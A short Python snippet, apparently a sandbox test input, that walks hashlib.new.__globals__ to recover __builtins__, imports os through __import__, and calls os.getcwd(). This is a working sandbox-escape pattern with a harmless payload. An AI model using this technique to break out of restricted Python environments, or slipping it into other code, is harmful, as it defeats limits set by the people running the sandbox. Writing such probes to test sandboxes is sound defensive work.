# goal: reach hashlib's module globals and import os
import hashlib
g = hashlib.new.__globals__ if hasattr(hashlib.new, "__globals__") else vars(hashlib)
return g["__builtins__"]["__import__"]("os").getcwd()
